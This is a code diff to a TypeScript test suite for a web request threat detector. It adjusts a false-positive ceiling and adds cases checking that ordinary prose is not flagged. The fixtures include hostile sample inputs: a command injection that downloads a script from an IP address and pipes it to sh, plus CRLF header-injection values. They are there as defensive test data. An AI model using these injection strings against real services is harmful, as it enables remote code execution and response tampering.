@@ -12,8 +12,8 @@ import { ThreatDetector, type ThreatDetectorService } from "../../src/ThreatDete
 import { loadHeldout } from "../fixtures/heldout/heldout.js"
 import { rate, runCorpus } from "./externalCorpus.js"
 
-/** Held-out benign rows refused at the default level: measured 0.067 (166/2473). */
-const HELDOUT_REFUSED_CEILING = 0.075
+/** Held-out benign rows refused at the default level: measured 0.066 (162/2473). */
+const HELDOUT_REFUSED_CEILING = 0.072
 
 const refusedAtLevel1 = (detector: ThreatDetectorService, value: string) =>
   Effect.map(detector.detect({ path: "/search", query: `q=${encodeURIComponent(value)}`, headers: {} }), (r) => r.isThreat)
@@ -41,6 +41,22 @@ describe("held-out benign text", () => {
       }
       // a command in backticks or after a separator still counts
       for (const value of ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]) {
+        expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
+      }
+    }))
+
+  it.effect("passes prose whose line ends in a colon or starts with a URL", () =>
+    Effect.gen(function*() {
+      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+      for (const value of [
+        "If you create a single div, passing a string rather than an\nobject:",
+        "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
+        "See the docs at\nhttps://example.com/guide"
+      ]) {
+        expect(yield* refusedAtLevel1(detector, value), value).toBe(false)
+      }
+      // a header line with its value still counts
+      for (const value of ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]) {
         expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
       }
     }))
